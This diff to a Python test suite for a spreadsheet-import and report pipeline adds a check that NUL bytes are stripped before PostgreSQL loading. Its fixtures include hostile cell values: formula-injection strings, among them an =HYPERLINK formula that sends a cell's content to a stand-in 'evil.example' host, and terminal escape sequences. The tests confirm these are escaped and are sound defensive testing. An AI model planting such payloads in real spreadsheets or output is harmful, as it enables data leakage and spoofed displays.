@@ -38,7 +38,8 @@ AID_TYPES = ["=1+1", "+1", "@SUM(A1)", "\x1b[31mRouge\x1b[0m", "Aide\x1b]0;titre
 PROGRAMME_TYPES = ["-1", "=2+2", "Prog\x1b[2J\x0b", "Nul\x00le", "CEJ"]
 # what the report shows for them
 VISIBLE = ["=1+1", "+1", "@SUM(A1)", "\\x1b[31mRouge\\x1b[0m", "Aide\\x1b]0;titre\\x07B",
-           "-1", "=2+2", "Prog\\x1b[2J", "Nul\\x00le", HYPERLINK, "Marcq\\x0ben-Barœul\\x1b[2J"]
+           "-1", "=2+2", "Prog\\x1b[2J", HYPERLINK, "Marcq\\x0ben-Barœul\\x1b[2J",
+           "Nulle"]  # the reader removes a NUL (PostgreSQL text cannot hold it)
 # what XML 1.0 refuses, C1 and DEL: none may be in a file the report writes
 RAW_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
 TERMINAL_CONTROL = re.compile(rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]")
@@ -215,7 +216,7 @@ def test_the_page_escapes_hostile_texts(written):
         assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Cliquez ici&quot;)" \
             in page
         assert "HYPERLINK(\"" not in page
-        for text in ["\\x1b[31mRouge\\x1b[0m", "Aide\\x1b]0;titre\\x07B", "Nul\\x00le",
+        for text in ["\\x1b[31mRouge\\x1b[0m", "Aide\\x1b]0;titre\\x07B", "Nulle",
                      "Marcq\\x0ben-Barœul\\x1b[2J", "@SUM(A1)"]:
             assert html.escape(text) in page, text
 
@@ -317,15 +318,12 @@ def test_hostile_text_on_postgresql(postgres_url, tmp_path):
 
 # --- a NUL on PostgreSQL ----------------------------------------------------------------------
 
-@pytest.mark.xfail(strict=True, reason=(
-    "PostgreSQL text cannot hold NUL: an xlsx cell `_x0000_` (decoded to \\x00 by the reader) "
-    "fails the partition at the staging COPY with psycopg's 'invalid byte sequence for "
-    "encoding UTF8: 0x00', naming neither the file nor what to do; to be fixed where exports "
-    "are read (pipelines/read.py), not in the report"))
 def test_a_nul_in_an_export_on_postgresql(postgres_url, tmp_path):
-    """The partition loads (NUL replaced), or fails with a message naming the file."""
+    """PostgreSQL text cannot hold NUL: an xlsx cell `_x0000_` (decoded to \\x00) failed the
+    partition at the staging COPY, naming neither the file nor what to do. The reader now
+    removes it: the partition loads, on PostgreSQL as on DuckDB."""
     raw = write_hostile_drop_zone(tmp_path / "raw")
     summary = _run(raw, postgres_url)
-    assert summary.outcomes
-    for outcome in summary.failed:
-        assert "dispositifs.xlsx" in str(outcome.error), outcome.error
+    assert summary.outcomes and not summary.failed, [o.error for o in summary.failed]
+    stored = query(postgres_url, "SELECT programme FROM conformed.dispositifs")
+    assert stored and not any("\x00" in (r["programme"] or "") for r in stored)
